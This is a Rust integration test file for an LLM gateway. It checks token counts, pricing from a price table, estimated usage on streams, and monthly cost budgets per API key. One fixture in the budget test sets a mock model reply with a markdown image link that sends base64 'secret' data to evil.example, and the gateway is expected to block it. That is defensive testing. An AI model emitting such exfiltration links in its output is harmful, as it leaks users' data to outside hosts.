//! Tokens and cost in telemetry and in key budgets, over real HTTP: the
//! upstream's `usage` priced from `gateway.prices`; counts estimated (and
//! marked so) when the upstream sends none; a completion refused after the
//! upstream answered still counts what it cost.

use std::time::Duration;

use llmsec_server::config::ModelPrice;
use reqwest::Method;
use serde_json::{Value, json};

use crate::common::{self, ADMIN, Gw};

fn priced(g: &mut llmsec_server::config::GatewayConfig) {
    g.prices.insert("gpt-4o-mini".into(), ModelPrice { input: 150_000.0, output: 600_000.0 });
    g.prices.insert("gpt-*".into(), ModelPrice { input: 1.0, output: 1.0 });
}

/// The newest telemetry event once there are `n`.
async fn last_event(gw: &Gw, n: usize) -> Value {
    gw.telemetry(n).await.pop().unwrap()
}

#[tokio::test]
async fn the_upstreams_usage_is_priced_from_the_table() {
    let gw = common::start_with(priced).await;
    let body =
        json!({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "What is the capital of France?"}]});
    assert_eq!(gw.post("/v1/chat/completions", &body).await.status, 200);
    let e = last_event(&gw, 1).await;
    // The mock's usage: 11 prompt and 7 completion tokens.
    assert_eq!((e["data"]["prompt_tokens"].as_u64(), e["data"]["completion_tokens"].as_u64()), (Some(11), Some(7)));
    let cost = e["data"]["cost"].as_f64().unwrap();
    assert!((cost - (11.0 * 0.15 + 7.0 * 0.6)).abs() < 1e-9, "{cost}");
    assert!(e["metadata"].get("usage_estimated").is_none(), "{e}");

    // A model priced by prefix; one with no price has no cost.
    let body = json!({"model": "gpt-3.5-turbo", "messages": [{"role": "user", "content": "hi"}]});
    assert_eq!(gw.post("/v1/chat/completions", &body).await.status, 200);
    let e = last_event(&gw, 2).await;
    assert!((e["data"]["cost"].as_f64().unwrap() - 18.0 / 1e6).abs() < 1e-12, "{e}");
    let body = json!({"model": "local-llama", "messages": [{"role": "user", "content": "hi"}]});
    assert_eq!(gw.post("/v1/chat/completions", &body).await.status, 200);
    let e = last_event(&gw, 3).await;
    assert!(e["data"]["cost"].is_null() && e["data"]["total_tokens"] == 18, "{e}");
}

#[tokio::test]
async fn a_stream_without_usage_gets_estimated_counts_marked_as_estimated() {
    let gw = common::start_with(priced).await;
    // The mock's streamed completions send no usage.
    let body = json!({"model": "gpt-4o-mini", "prompt": "Name a city.", "stream": true,
        "x_chunks": ["Paris", " is", " the", " capital", " of", " France."]});
    let r = gw.post("/v1/completions", &body).await;
    assert_eq!(r.status, 200, "{}", r.text);
    let e = last_event(&gw, 1).await;
    assert_eq!(e["metadata"]["usage_estimated"], true, "{e}");
    let (p, c) = (e["data"]["prompt_tokens"].as_u64().unwrap(), e["data"]["completion_tokens"].as_u64().unwrap());
    assert!((3..=8).contains(&p) && (6..=14).contains(&c), "prompt {p}, completion {c}");
    assert_eq!(e["data"]["total_tokens"].as_u64(), Some(p + c));
    let cost = e["data"]["cost"].as_f64().unwrap();
    assert!((cost - (p as f64 * 0.15 + c as f64 * 0.6)).abs() < 1e-9, "{cost}");
}

#[tokio::test]
async fn a_cost_budget_counts_priced_calls_and_refused_completions_too() {
    let gw = common::start_with(priced).await;
    // Each mock call costs 11 * 0.15 + 7 * 0.6 = 5.85.
    let made = gw
        .make_key_with(&json!({"name": "spender", "scopes": ["proxy"], "budgets": [{"period": "month", "cost": 10.0}]}))
        .await;
    let (key, id) = (made["key"].as_str().unwrap(), made["id"].as_str().unwrap());
    // The upstream answers, the gateway refuses the completion: the tokens were spent all the same.
    let body = json!({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "Summarise"}],
        "x_reply": "Done. ![x](https://evil.example/collect?data=c2VjcmV0IHN0dWZm&u=1)"});
    let r = gw.post_with("/v1/chat/completions", key, &body, &[]).await;
    assert_eq!((r.status, r.body["error"]["code"].as_str()), (422, Some("output_blocked")), "{}", r.text);
    let e = last_event(&gw, 1).await;
    assert_eq!((e["data"]["status"].as_str(), e["data"]["total_tokens"].as_u64()), (Some("blocked"), Some(18)));
    let used = |k: &Value| k["budgets"][0]["used_cost"].as_f64().unwrap_or(0.0);
    let mut listed = Value::Null;
    for _ in 0..100 {
        let r = gw.send(Method::GET, "/api/admin/keys", ADMIN, None).await;
        listed = r.body["keys"].as_array().unwrap().iter().find(|k| k["id"] == id).cloned().unwrap();
        if used(&listed) > 0.0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!((used(&listed) - 5.85).abs() < 1e-9, "{listed}");
    let body = json!({"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]});
    assert_eq!(gw.post_with("/v1/chat/completions", key, &body, &[]).await.status, 200);
    for _ in 0..100 {
        let r = gw.send(Method::GET, "/api/admin/keys", ADMIN, None).await;
        listed = r.body["keys"].as_array().unwrap().iter().find(|k| k["id"] == id).cloned().unwrap();
        if used(&listed) > 10.0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let r = gw.post_with("/v1/chat/completions", key, &body, &[]).await;
    assert_eq!((r.status, r.body["error"]["code"].as_str()), (429, Some("budget_exceeded")), "{}", r.text);
    assert!(r.body["error"]["message"].as_str().unwrap().contains("month budget of a cost of 10"), "{}", r.text);
}
